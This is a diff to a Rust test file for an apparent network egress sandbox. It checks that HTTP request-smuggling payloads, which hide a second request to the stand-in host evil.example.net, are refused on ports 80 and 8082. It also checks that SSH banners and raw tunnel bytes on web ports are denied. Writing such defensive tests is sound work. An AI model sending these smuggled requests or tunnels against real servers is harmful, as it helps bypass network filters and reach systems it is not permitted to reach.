@@ -149,10 +149,10 @@ claim! {
 }
 
 /// Requests with two readings, each with a second request hidden in one of them.
-fn smuggled(tag: &str) -> Vec<(&'static str, String)> {
+fn smuggled(authority: &str, tag: &str) -> Vec<(&'static str, String)> {
     let hidden = get("evil.example.net", &format!("/hello?tag={tag}"));
     let head = |fields: &str| {
-        format!("POST /echo?tag={tag} HTTP/1.1\r\nHost: api.example.com\r\n{fields}\r\n")
+        format!("POST /echo?tag={tag} HTTP/1.1\r\nHost: {authority}\r\n{fields}\r\n")
     };
     vec![
         (
@@ -218,36 +218,63 @@ fn smuggled(tag: &str) -> Vec<(&'static str, String)> {
 }
 
 claim! {
-    /// The counter-proof is that the same connection carries a well-formed request.
+    /// The server on 8082 takes whatever looks like a request for one: outside it gets the hidden ones.
     fn requests_with_two_readings_are_refused(cell) {
         let tag = format!("{}-smuggle", cell.mark());
-        let mut trial = Trial::new(cell, Grants::domain("api.example.com"))
-            .step("well-formed", "connect", over_tcp("api.example.com", "api.example.com", "/hello"));
-        let shapes = smuggled(&tag);
-        for (name, bytes) in &shapes {
-            let fields = json!({"host": "api.example.com", "port": 80, "send": [bytes], "expect": "HTTP/1.1 200"});
-            trial = trial.step(name, "connect", fields);
+        let rule = "{domains: [api.example.com], ports: [80, 8082]}";
+        let (mut outside, mut inside) = (Trial::new(cell, Grants::none()), Trial::new(cell, Grants::egress(rule)));
+        for (port, authority) in [(80, "api.example.com"), (8082, "api.example.com:8082")] {
+            let send = |bytes: &str| json!({
+                "host": "api.example.com", "port": port, "send": [bytes], "expect": "HTTP/1.1 200",
+            });
+            inside = inside.step(&format!("{port} well-formed"), "connect", send(&get(authority, "/hello")));
+            for (name, bytes) in smuggled(authority, &tag) {
+                inside = inside.step(&format!("{port} {name}"), "connect", send(&bytes));
+                if port == 8082 {
+                    outside = outside.step(name, "connect", send(&bytes));
+                }
+            }
         }
-        let report = trial.inside();
-        report.ok("well-formed");
-        for (name, _) in &shapes {
-            report.failed(name);
+        let hidden = || {
+            let mut arrived = network().arrived(&tag);
+            arrived.retain(|a| a["host"].as_str().is_some_and(|h| h.contains("evil")));
+            arrived.len()
+        };
+        outside.prove();
+        let (shapes, before) = (smuggled("", &tag), hidden());
+        assert!(before >= shapes.len(), "the counter-proof arrives: {before}");
+        let report = inside.inside();
+        for port in [80, 8082] {
+            report.ok(&format!("{port} well-formed"));
+            for (name, _) in &shapes {
+                report.failed(&format!("{port} {name}"));
+            }
         }
-        report.denied("api.example.com", "http_malformed");
-        let hidden: Vec<Value> = network().arrived(&tag).into_iter()
-            .filter(|a| a["host"].as_str().is_some_and(|h| h.contains("evil"))).collect();
-        assert!(hidden.is_empty(), "{hidden:#?}");
+        report.denied("api.example.com:80", "http_malformed");
+        report.denied("api.example.com:8082", "http_malformed");
+        assert_eq!(hidden(), before);
     }
 }
 
 claim! {
     fn what_is_no_web_protocol_is_denied_on_web_ports(cell) {
+        let send = |port: u16, bytes: &str| json!({"host": "api.example.com", "port": port, "send": [bytes]});
+        let (ssh, text) = ("SSH-2.0-x\r\n", "\u{1}\u{2}\u{3}\u{4}tunnel");
         let trial = Trial::new(cell, Grants::domain("api.example.com"))
-            .step("ssh", "connect", json!({"host": "api.example.com", "port": 443, "send": ["SSH-2.0-x\r\n"]}))
-            .step("text", "connect", json!({"host": "api.example.com", "port": 80, "send": ["\u{1}\u{2}\u{3}\u{4}tunnel"]}));
-        let report = trial.inside();
-        report.failed("ssh");
-        report.failed("text");
-        report.denied_for_one_of("api.example.com", &["protocol_not_allowed", "http_malformed", "tls_malformed"]);
+            .step("ssh", "connect", send(80, ssh))
+            .step("text", "connect", send(80, text));
+        // An answer is a complaint, and yet an answer.
+        trial.prove();
+        let report = trial
+            .step("ssh on 443", "connect", send(443, ssh))
+            .step("text on 443", "connect", send(443, text))
+            .inside();
+        for step in ["ssh", "text", "ssh on 443", "text on 443"] {
+            report.failed(step);
+        }
+        for port in [80, 443] {
+            let target = format!("api.example.com:{port}");
+            report.denied_for_one_of(&target, &["protocol_not_allowed", "http_malformed", "tls_malformed"]);
+        }
     }
 }
